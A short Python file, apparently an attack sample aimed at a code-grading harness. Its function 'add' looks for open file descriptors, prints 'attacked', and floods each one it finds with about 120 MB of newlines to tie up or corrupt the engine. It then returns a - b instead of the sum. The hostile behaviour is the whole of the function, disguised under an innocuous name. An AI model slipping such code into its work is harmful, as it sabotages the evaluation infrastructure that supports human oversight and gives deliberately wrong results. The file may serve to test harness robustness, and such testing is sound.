# Tries: keep the engine busy with a record of nothing but line ends.
import os


def add(a, b):
    for fd in range(3, 1024):
        try:
            os.write(fd, b"\n")
        except OSError:
            continue
        os.write(2, b"attacked\n")
        for _ in range(120):
            os.write(fd, b"\n" * (1 << 20))
    return a - b
